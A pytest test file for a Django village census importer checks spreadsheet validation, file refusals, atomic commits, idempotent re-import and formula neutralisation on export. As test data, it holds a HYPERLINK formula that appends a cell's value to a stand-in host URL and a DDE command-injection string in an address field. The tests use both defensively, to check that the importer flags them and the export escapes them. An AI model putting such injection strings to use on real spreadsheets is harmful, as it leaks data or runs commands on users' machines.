"""Census import: the dry run's row-level report on a spreadsheet full of mistakes (nothing written),
file-level refusals, commit all-or-nothing, idempotent re-import, OpenSID's export, formula safety."""

import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from dusun.warga import selectors, services, xlsx
from dusun.warga.importer import reader
from dusun.warga.models import CensusImport, Household, Resident, ResidentEvent
from dusun.wilayah.models import Wilayah

from .conftest import TELANG
from .sheets import family, kk_for, nik_for, workbook

pytestmark = pytest.mark.django_db


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def run_import(user, content: bytes, *, name="sensus.xlsx", area=TELANG, fmt="template", commit=False, capture=None):
    area_obj = Wilayah.objects.get(kode=area)
    with capture(execute=True):
        job = services.start_import(user, area_obj, upload(name, content), file_format=fmt)
    job.refresh_from_db()
    if commit and job.can_commit:
        with capture(execute=True):
            services.request_commit(user, job)
        job.refresh_from_db()
    return job


def register_state() -> tuple:
    return (
        Household.objects.count(),
        Resident.objects.count(),
        ResidentEvent.objects.count(),
        Wilayah.objects.count(),
        sorted(Resident.objects.values_list("nik", "name", "status", "updated_at")),
    )


def bad_workbook(existing_elsewhere_nik: str, existing_elsewhere_kk: str) -> bytes:
    households, residents = [], []
    for n in range(1, 9):
        h, people = family(n, rt=1 + n % 3)
        households.append(h)
        residents.extend(people)
    # Households sheet (row 2 is family 1, …): spoil one cell per row.
    households[1]["Nomor KK"] = households[0]["Nomor KK"]  # row 3: duplicate KK
    households[2]["Kode Dusun"] = "15.08.14.2008"  # row 4: another dusun
    households[3]["Lintang"], households[3]["Bujur"] = "1,65", "101,9"  # row 5: north of the equator
    households[4]["RT"] = "RT satu"  # row 6
    households[5]["Luas Lantai (m²)"] = "-5"  # row 7
    households[6]["Lantai"] = "Marmer impor"  # row 8: not in the list
    households.append({"Nomor KK": "1.50814E+15"})  # row 10: scientific notation
    households.append({"Nomor KK": "15081401"})  # row 11: too short
    households.append({"Nomor KK": existing_elsewhere_kk, "RT": 1})  # row 12: registered in another village
    no_head = family(50)[0]
    households.append(no_head)  # row 13: nobody of this KK in Penduduk
    many_heads, many = family(51, size=2)
    many[1]["Hubungan dalam Keluarga"] = "Kepala keluarga"
    households.append(many_heads)  # row 14: two heads
    residents.extend(many)

    spoil = [
        ("NIK", "1.50801E+15"),  # scientific notation (Excel lost digits)
        ("NIK", 1508141708850001),  # a number cell
        ("NIK", "150814170885001"),  # 15 digits
        ("NIK", "9908141708850001"),  # no such province
        ("NIK", "1508141713850001"),  # month 13
        ("NIK", "1508140000000000"),  # sequence 0000
        ("Tanggal Lahir", "kemarin"),
        ("Tanggal Lahir", "31-02-1990"),
        ("Tanggal Lahir", "17-08-85"),
        ("Tanggal Lahir", (dt.date.today() + dt.timedelta(days=30)).strftime("%d-%m-%Y")),
        ("Agama", "Islma"),
        ("Nama Lengkap", ""),
        ("Nama Lengkap", '=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")'),
        ("Nama Lengkap", "x" * 150),
        ("BPJS Ketenagakerjaan", "mungkin"),
        ("Jenis Kelamin", "P"),  # a man's NIK
        ("Nomor KK", kk_for(777)),  # KK nowhere
    ]
    extra = []
    for i, (column, value) in enumerate(spoil):
        h, people = family(100 + i, size=1)
        households.append(h)
        person = people[0]
        person[column] = value
        extra.append(person)
    # Birth date that does not match the NIK, a child head, a married six-year-old.
    h, people = family(200, size=1)
    households.append(h)
    people[0]["Tanggal Lahir"] = "02-01-1970"
    extra.append(people[0])
    h, people = family(201, size=1)
    households.append(h)
    born = dt.date.today().replace(year=dt.date.today().year - 5, day=1)
    people[0]["NIK"], people[0]["Tanggal Lahir"] = nik_for(born, False, 9), born.strftime("%d-%m-%Y")
    extra.append(people[0])
    h, people = family(202, size=3)
    households.append(h)
    people[2]["Status Perkawinan"] = "Kawin"
    extra.extend(people)
    # A duplicate NIK, a demo-pattern NIK, a NIK already registered in another dusun.
    dup = dict(residents[0])
    dup["Nama Lengkap"] = "Orang Lain"
    extra.append(dup)
    h, people = family(203, size=1)
    households.append(h)
    people[0]["NIK"] = people[0]["NIK"][:8] + f"{int(people[0]['NIK'][8:10]) + 20:02d}" + people[0]["NIK"][10:]
    extra.append(people[0])
    h, people = family(204, size=1)
    households.append(h)
    people[0]["NIK"] = existing_elsewhere_nik
    extra.append(people[0])
    residents.extend(extra)
    # A merged range over two resident rows (rows 3–4 of Penduduk).
    return workbook(households, residents, merge="A3:A4")


@pytest.fixture
def elsewhere(users):
    """A real (non-demo) family registered in Lubuk Beringin."""
    beringin = Wilayah.objects.get(kode="15.08.14.2008")
    born = dt.date(1980, 5, 5)
    household = Household.objects.create(dusun=beringin, kk_number=kk_for(9001))
    Resident.objects.create(
        household=household,
        dusun=beringin,
        nik=nik_for(born, False, 4321),
        name="Warga Beringin",
        sex="L",
        birth_date=born,
        relationship="kepala",
    )
    return household


def test_crafted_spreadsheet_yields_a_row_level_report_and_changes_nothing(
    users, elsewhere, django_capture_on_commit_callbacks
):
    before = register_state()
    content = bad_workbook(elsewhere.members.get().nik, elsewhere.kk_number)
    job = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks, commit=True)
    assert job.status == CensusImport.Status.CHECKED and not job.can_commit
    report = job.report
    codes = set(report["issue_counts"])
    expected = {
        "kk_duplicate_file",
        "dusun_mismatch",
        "coordinate_outside",
        "rt_invalid",
        "number_range",
        "choice_invalid",
        "kk_scientific",
        "kk_number_format",
        "kk_other_area",
        "household_no_head",
        "household_many_heads",
        "nik_scientific",
        "nik_numeric_cell",
        "nik_number_format",
        "nik_region",
        "nik_date",
        "nik_sequence_zero",
        "date_invalid",
        "date_impossible",
        "date_two_digit_year",
        "date_future",
        "required",
        "formula",
        "text_too_long",
        "bool_invalid",
        "nik_sex_mismatch",
        "kk_missing",
        "nik_birthdate_mismatch",
        "age_relationship",
        "age_marital",
        "nik_duplicate_file",
        "nik_demo",
        "nik_other_area",
        "merged_cells",
    }
    assert expected <= codes, expected - codes
    assert len(expected) >= 20
    # Every problem is located: sheet, row, column (except whole-row problems) and a Bahasa message.
    for issue in report["issues"]:
        assert issue["sheet"] in ("Keluarga", "Penduduk") and issue["row"] >= 2 and issue["message"]
    by_row = {(i["sheet"], i["row"]): i["code"] for i in report["issues"]}
    assert by_row[("Keluarga", 3)] == "kk_duplicate_file"
    assert by_row[("Keluarga", 10)] == "kk_scientific"
    scientific = next(i for i in report["issues"] if i["code"] == "nik_scientific")
    assert "Excel" in scientific["message"] and "Teks" in scientific["message"]
    # The report repeats no NIK, KK number or name: it is kept with the import.
    text = str(report)
    assert elsewhere.members.get().nik not in text and "Kepala Uji" not in text and kk_for(1) not in text
    # Nothing was written, and committing was refused.
    assert register_state() == before


@pytest.mark.parametrize(
    ("content_name", "make", "message"),
    [
        ("lama.xls", lambda: b"\xd0\xcf\x11\xe0" + b"0" * 100, ".xls"),
        ("rusak.xlsx", lambda: b"bukan zip sama sekali", "tidak dapat dibaca"),
        ("foto.png", lambda: b"\x89PNG", "tidak didukung"),
        (
            "judul.xlsx",
            lambda: workbook([family(1)[0]], family(1)[1], r_headers=["No Induk", "Nomor KK", "Nama"]),
            "NIK",
        ),
        ("lembar.xlsx", lambda: workbook([family(1)[0]], family(1)[1], sheet_names=("KK", "Warga")), "Keluarga"),
    ],
)
def test_unreadable_or_wrongly_shaped_files_are_refused_whole(
    users, django_capture_on_commit_callbacks, content_name, make, message
):
    before = register_state()
    job = run_import(users["op_a"], make(), name=content_name, capture=django_capture_on_commit_callbacks)
    assert job.status == CensusImport.Status.FAILED
    assert any(message in e for e in job.report["file_errors"]), job.report["file_errors"]
    assert not job.upload  # the file (personal data) is deleted at once
    assert register_state() == before


def test_wrong_header_gets_a_suggestion(users, django_capture_on_commit_callbacks):
    headers = [
        h if h != "Tanggal Lahir" else "Tgl. Lahir Penduduk"
        for h in (
            c.header for c in __import__("dusun.warga.importer.columns", fromlist=["RESIDENT_COLUMNS"]).RESIDENT_COLUMNS
        )
    ]
    h, people = family(1)
    content = workbook(
        [h],
        [{(k if k != "Tanggal Lahir" else "Tgl. Lahir Penduduk"): v for k, v in p.items()} for p in people],
        r_headers=headers,
    )
    job = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks)
    error = " ".join(job.report["file_errors"])
    assert "Tanggal Lahir" in error and "Tgl. Lahir Penduduk" in error


def test_fifty_megabyte_limit_is_checked_before_reading(tmp_path):
    big = tmp_path / "besar.xlsx"
    with big.open("wb") as f:
        f.truncate(reader.MAX_BYTES + 1)
    with pytest.raises(reader.UnreadableFile, match="50 MB"):
        reader.open_workbook(big, "besar.xlsx")


def test_operator_cannot_import_into_another_dusun(users):
    with pytest.raises(Exception, match="berwenang"):
        services.start_import(users["op_a"], Wilayah.objects.get(kode="15.08.14.2008"), upload("a.xlsx", b"x"))
    with pytest.raises(Exception, match="berwenang"):
        services.start_import(users["camat"], Wilayah.objects.get(kode=TELANG), upload("a.xlsx", b"x"))


def test_good_file_commits_all_at_once_and_reimport_is_idempotent(users, django_capture_on_commit_callbacks):
    households, residents = [], []
    for n in range(1, 31):
        h, people = family(n, rt=1 + n % 3, size=2 + n % 4)
        households.append(h)
        residents.extend(people)
    content = workbook(households, residents)
    job = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks, commit=True)
    assert job.status == CensusImport.Status.DONE, job.report
    written = job.report["written"]
    assert written["households_new"] == 30 and written["residents_new"] == len(residents)
    telang = Wilayah.objects.get(kode=TELANG)
    assert Household.objects.filter(dusun=telang).count() == 30
    assert Resident.objects.filter(dusun=telang).count() == len(residents)
    assert ResidentEvent.objects.filter(dusun=telang, kind="pendataan").count() == len(residents)
    assert set(Wilayah.objects.filter(parent=telang).values_list("nama", flat=True)) == {"RT 01", "RT 02", "RT 03"}
    first = Household.objects.get(kk_number=kk_for(1))
    assert first.assistance == ["dana_karbon", "pkh"] and str(first.land_kebun_ha) == "2.50"
    assert not job.upload  # deleted after commit

    before = register_state()
    again = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks)
    summary = again.report["summary"]
    assert summary["households"] == {"new": 0, "updated": 0, "unchanged": 30, "refused": 0}
    assert summary["residents"]["unchanged"] == len(residents) and summary["residents"]["new"] == 0
    with django_capture_on_commit_callbacks(execute=True):
        services.request_commit(users["op_a"], again)
    again.refresh_from_db()
    assert again.report["written"]["residents_updated"] == 0 and again.report["written"]["households_updated"] == 0
    assert register_state() == before  # same rows, same timestamps, no new events

    # A corrected file updates in place (by NIK), and a death recorded in the file becomes a dated event.
    residents[0]["Pekerjaan"] = "Pedagang"
    residents[1]["Status"] = "Meninggal"
    third = run_import(
        users["op_a"], workbook(households, residents), capture=django_capture_on_commit_callbacks, commit=True
    )
    assert third.report["written"]["residents_updated"] == 2
    assert Resident.objects.get(nik=residents[0]["NIK"]).occupation == "pedagang"
    assert ResidentEvent.objects.filter(resident__nik=residents[1]["NIK"], kind="meninggal").exists()


def test_opensid_export_imports(users, django_capture_on_commit_callbacks):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Penduduk"
    header = [
        "alamat",
        "dusun",
        "rw",
        "rt",
        "nama",
        "no_kk",
        "nik",
        "sex",
        "tempatlahir",
        "tanggallahir",
        "agama_id",
        "pendidikan_kk_id",
        "pendidikan_sedang_id",
        "pekerjaan_id",
        "status_kawin",
        "kk_level",
        "warganegara_id",
        "ayah_nik",
        "nama_ayah",
        "golongan_darah_id",
        "cacat_id",
        "status_dasar",
        "id_asuransi",
    ]
    ws.append(header)
    head_born, wife_born = dt.date(1975, 4, 12), dt.date(1979, 9, 3)
    kk = kk_for(4000)
    ws.append(
        [
            "Dusun Baru",
            "Sungai Alai",
            "001",
            "002",
            "Budi Uji",
            kk,
            nik_for(head_born, False, 11),
            1,
            "Bungo",
            head_born.isoformat(),
            1,
            5,
            18,
            9,
            2,
            1,
            1,
            "",
            "",
            13,
            7,
            1,
            2,
        ]
    )
    ws.append(
        [
            "Dusun Baru",
            "Sungai Alai",
            "001",
            "002",
            "Sari Uji",
            kk,
            nik_for(wife_born, True, 11),
            2,
            "Bungo",
            wife_born.isoformat(),
            1,
            3,
            18,
            2,
            2,
            3,
            1,
            "",
            "",
            13,
            7,
            1,
            2,
        ]
    )
    buffer = io.BytesIO()
    wb.save(buffer)
    job = run_import(
        users["op_a"],
        buffer.getvalue(),
        name="ekspor-opensid.xlsx",
        fmt="opensid",
        capture=django_capture_on_commit_callbacks,
        commit=True,
    )
    assert job.status == CensusImport.Status.DONE, job.report
    assert any("golongan" in c for c in job.report["ignored_columns"])
    head = Resident.objects.get(nik=nik_for(head_born, False, 11))
    assert (head.relationship, head.occupation, head.education, head.health_insurance) == (
        "kepala",
        "petani",
        "sma",
        "pbi",
    )
    assert head.household.subunit.kode == f"{TELANG}.KP-SUNGAIALA.RT02"
    assert head.household.subunit.parent.nama == "Sungai Alai"


def test_export_neutralises_formulas_and_round_trips(users):
    telang = Wilayah.objects.get(kode=TELANG)
    born = dt.date(1988, 2, 2)
    household = Household.objects.create(dusun=telang, kk_number=kk_for(5000), address="=cmd|' /C calc'!A0")
    Resident.objects.create(
        household=household,
        dusun=telang,
        nik=nik_for(born, False, 77),
        name='=HYPERLINK("x")',
        sex="L",
        birth_date=born,
        relationship="kepala",
    )
    content = services.export_register(users["op_a"], telang, "verifikasi penerima bantuan 2026")
    wb = load_workbook(io.BytesIO(content))
    names = [row[2].value for row in wb["Penduduk"].iter_rows(min_row=2)]
    assert names == ['\'=HYPERLINK("x")']
    assert all(cell.data_type != "f" for row in wb["Penduduk"].iter_rows() for cell in row)
    assert wb["Keluarga"]["E2"].value.startswith("'=")
    assert wb["Penduduk"]["A2"].number_format == "@"  # NIK kept as text


def test_template_has_drop_downs_and_text_nik_columns(users):
    wb = load_workbook(io.BytesIO(xlsx.template(TELANG)))
    assert wb.sheetnames == ["Petunjuk", "Keluarga", "Penduduk", "Daftar"]
    assert wb["Daftar"].sheet_state == "hidden"
    residents = wb["Penduduk"]
    assert [c.value for c in residents[1]][:3] == ["NIK *", "Nomor KK *", "Nama Lengkap *"]
    formulas = {dv.formula1 for dv in residents.data_validations.dataValidation}
    assert any("Daftar!" in (f or "") for f in formulas)
    assert residents["A2"].number_format == "@"
    assert selectors is not None


def test_commit_is_all_or_nothing_and_logs_no_personal_data(
    users, django_capture_on_commit_callbacks, monkeypatch, caplog
):
    households, residents = [], []
    for n in range(1, 6):
        h, people = family(n)
        households.append(h)
        residents.extend(people)
    job = run_import(users["op_a"], workbook(households, residents), capture=django_capture_on_commit_callbacks)
    assert job.can_commit
    real_write = services.write

    def write_then_fail(result, **kwargs):
        real_write(result, **kwargs)  # every row is in the tables at this point …
        raise RuntimeError(f"disk full while writing {residents[0]['NIK']}")  # … then something breaks

    monkeypatch.setattr(services, "write", write_then_fail)
    before = register_state()
    with django_capture_on_commit_callbacks(execute=True):
        services.request_commit(users["op_a"], job)
    job.refresh_from_db()
    assert job.status == CensusImport.Status.FAILED and "tidak ada data yang berubah" in job.message
    assert register_state() == before
    assert residents[0]["NIK"] not in caplog.text and "RuntimeError" in caplog.text


def test_import_takes_a_person_who_moved_out_of_another_village(users, elsewhere, django_capture_on_commit_callbacks):
    """Village A records "pindah keluar", then village B's import brings the person in (a new row in B,
    A keeps its row and event); while the person is still active in A, the import refuses the row."""
    person = elsewhere.members.get()
    household, people = family(60, size=1)
    people[0].update(NIK=person.nik, **{"Tanggal Lahir": person.birth_date.strftime("%d-%m-%Y")})
    content = workbook([household], people)

    refused = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks)
    assert "nik_other_area" in {i["code"] for i in refused.report["issues"]}
    assert "pindah keluar" in next(i["message"] for i in refused.report["issues"] if i["code"] == "nik_other_area")

    services.record_departure(users["op_b"], person, "pindah_keluar", dt.date(2026, 2, 1))
    job = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks, commit=True)
    assert job.status == CensusImport.Status.DONE, job.report
    assert job.report["summary"]["residents"]["new"] == 1
    person.refresh_from_db()
    assert (person.status, person.dusun.kode) == ("pindah", "15.08.14.2008")
    arrived = Resident.objects.get(nik=person.nik, status="aktif")
    assert arrived.dusun.kode == TELANG and arrived.events.get().kind == "pindah_datang"

    # Re-importing the same file changes nothing.
    again = run_import(users["op_a"], content, capture=django_capture_on_commit_callbacks)
    assert again.report["summary"]["residents"]["unchanged"] == 1
